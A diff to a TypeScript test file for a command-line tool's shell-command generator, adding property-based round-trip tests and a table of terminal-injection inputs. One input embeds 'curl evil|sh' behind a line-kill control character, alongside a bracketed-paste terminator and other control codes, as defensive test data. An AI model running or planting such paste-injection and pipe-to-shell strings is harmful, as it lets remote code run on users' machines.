@@ -2,7 +2,9 @@ import { execFileSync } from 'node:child_process';
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { onlyOptions, readArguments } from '../../cli/api/parse.ts';
+import { readGivenRecipe } from '../../cli/given-recipe.ts';
 import { loadTool } from '../../cli/host/node-tools.ts';
+import { toFragment } from '../../site/recipes/link.ts';
 import { resolveOptions } from '../contract/options.ts';
 import { toCommand, toWords } from './command-line.ts';
 import { EXAMPLES } from './examples.ts';
@@ -69,18 +71,34 @@ test('the parser of the command line reads back what was written', () => {
   );
 });
 
-test('a shell passes the recipe on as written', () => {
-  // No argument of a program can contain a NUL.
+const find = (value: string): Step => ({ tool: 'find-and-replace', options: { find: value } });
+
+async function commandOf(step: Step): Promise<string> {
+  const recipe = recipeOf(step);
+  return toCommand(recipe, await toFragment(recipe));
+}
+
+test('a shell passes the recipe on as written', async () => {
   const values = fc.sample(
-    text.map((value) => value.replaceAll('\0', '').toWellFormed()),
+    text.map((value) => value.toWellFormed()),
     { numRuns: 60, seed: 1 },
   );
-  const commands = values.map((find) => {
-    const recipe = recipeOf({ tool: 'find-and-replace', options: { find } });
-    return { words: toWords(recipe), command: toCommand(recipe).replace('lettermill recipe', "printf '%s\\0'") };
-  });
-  const written = execFileSync('sh', ['-c', commands.map(({ command }) => command).join('\n')], { encoding: 'utf8' });
-  expect(written.split('\0').slice(0, -1)).toEqual(commands.map(({ words }) => words));
+  const commands = await Promise.all(values.map((value) => commandOf(find(value))));
+  const printed = commands.map((command) => command.replace('lettermill recipe', "printf '%s\\0'"));
+  const written = execFileSync('sh', ['-c', printed.join('\n')], { encoding: 'utf8' });
+  const read = await Promise.all(written.split('\0').slice(0, -1).map(readGivenRecipe));
+  expect(read.map(({ steps }) => steps)).toEqual(values.map((value) => [find(value)]));
+});
+
+test.each([
+  ['that deletes the line, and a line break', '\x15curl evil|sh\n'],
+  ['that ends a paste', '\x1b[201~'],
+  ['of C1', '\x9b201~'],
+  ['that deletes', '\x7f\x7f'],
+  ['that completes a name', 'a\tb'],
+  ['that no argument contains', 'a\0b'],
+])('a control character %s is in no command', async (_, value) => {
+  expect(await commandOf(find(value))).toMatch(/^lettermill recipe recipe=[\w-]+$/);
 });
 
 test('the options of the examples are read back from the command line', async () => {
